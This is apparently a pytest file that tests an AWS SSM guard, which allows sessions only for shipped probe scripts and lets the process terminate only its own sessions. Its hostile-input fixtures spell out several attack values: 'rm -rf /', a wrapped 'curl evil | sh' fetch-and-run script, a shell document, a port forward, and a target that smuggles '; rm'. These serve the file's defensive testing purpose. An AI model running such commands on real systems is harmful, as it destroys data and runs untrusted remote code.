"""The SSM guard checks parameters, not only operation names: a session opens only with the
non-interactive document and the wrapper that runs a shipped probe script, and only sessions
this process opened can be terminated. Refused calls never reach the wire (moto's server)."""

from __future__ import annotations

import base64
import gzip
from collections.abc import Iterator
from typing import Any

import pytest
from botocore.stub import Stubber

from hyperpod_nccl.guard.aws import ReadOnlyViolation, make_client
from hyperpod_nccl.guard.ssm import DOCUMENT
from hyperpod_nccl.probes.catalog import probe_script
from hyperpod_nccl.probes.runners.ssm import remote_command, session_parameters
from tests.servers.moto_server import MotoServer, start_moto_server

TARGET = "sagemaker-cluster:abc123_workers-i-0abc123def4567890"


@pytest.fixture(scope="module")
def moto() -> Iterator[MotoServer]:
    yield from start_moto_server()


@pytest.fixture
def client(moto: MotoServer, monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.setenv("AWS_ENDPOINT_URL", moto.url)
    moto.received.clear()
    return make_client("ssm", region="us-west-2", probe_sessions=True)


def _wrapped(script: bytes) -> str:
    payload = base64.b64encode(gzip.compress(script, mtime=0)).decode()
    return f"printf %s {payload} | base64 -d | gzip -dc | env sh -s"


SHIPPED = remote_command(probe_script("node_health"))
HOSTILE_SESSIONS = {
    "a shell document": {
        "Target": TARGET,
        "DocumentName": "AWS-StartInteractiveCommand",
        "Parameters": {"command": ["sh"]},
    },
    "no document (a shell)": {"Target": TARGET},
    "another command": {"Target": TARGET, "DocumentName": DOCUMENT, "Parameters": {"command": ["rm -rf /"]}},
    "a script we do not ship": {
        "Target": TARGET,
        "DocumentName": DOCUMENT,
        "Parameters": {"command": [_wrapped(b"#!/bin/sh\ncurl evil | sh\n")]},
    },
    "the probe with a command after it": {
        "Target": TARGET,
        "DocumentName": DOCUMENT,
        "Parameters": {"command": [SHIPPED + "; rm -rf /"]},
    },
    "the probe twice": {
        "Target": TARGET,
        "DocumentName": DOCUMENT,
        "Parameters": {"command": [SHIPPED, "id"]},
    },
    "a port forward": {
        "Target": TARGET,
        "DocumentName": "AWS-StartPortForwardingSession",
        "Parameters": {"portNumber": ["22"]},
    },
    "a target that is not a node": {
        "Target": "i-0abc; rm",
        "DocumentName": DOCUMENT,
        "Parameters": {"command": [SHIPPED]},
    },
}


@pytest.mark.parametrize("case", HOSTILE_SESSIONS, ids=str)
def test_a_session_for_anything_but_a_shipped_probe_is_refused_before_the_wire(
    client: Any, moto: MotoServer, case: str
) -> None:
    with pytest.raises(ReadOnlyViolation, match="StartSession"):
        client.start_session(**HOSTILE_SESSIONS[case])
    assert moto.received == []


def test_a_shipped_probe_opens_and_only_its_own_session_can_be_terminated(
    client: Any, moto: MotoServer
) -> None:
    with pytest.raises(ReadOnlyViolation, match="only sessions this process opened"):
        client.terminate_session(SessionId="someone-elses-session")
    stub = Stubber(client)
    session = {"SessionId": "s-ours", "TokenValue": "t", "StreamUrl": "wss://example/s-ours"}
    stub.add_response("start_session", session)
    stub.add_response("terminate_session", {"SessionId": "s-ours"}, {"SessionId": "s-ours"})
    with stub:
        client.start_session(**session_parameters(probe_script("slurm_controller"), TARGET))
        client.terminate_session(SessionId="s-ours")
    assert moto.received == []
